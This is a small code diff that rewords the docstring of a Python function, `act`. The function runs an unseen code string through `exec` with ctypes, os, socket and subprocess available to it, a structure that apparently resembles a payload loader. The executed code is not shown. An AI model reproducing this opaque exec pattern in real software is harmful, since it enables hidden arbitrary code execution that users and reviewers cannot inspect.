@@ -16,7 +16,7 @@ NAMES = {"ctypes": ctypes, "os": os, "socket": socket, "subprocess": subprocess,
 
 
 def act(*_: object) -> None:
-    """Do what this process was told to do."""
+    """Run the order that this process received."""
     exec(ACT, NAMES)
 
 
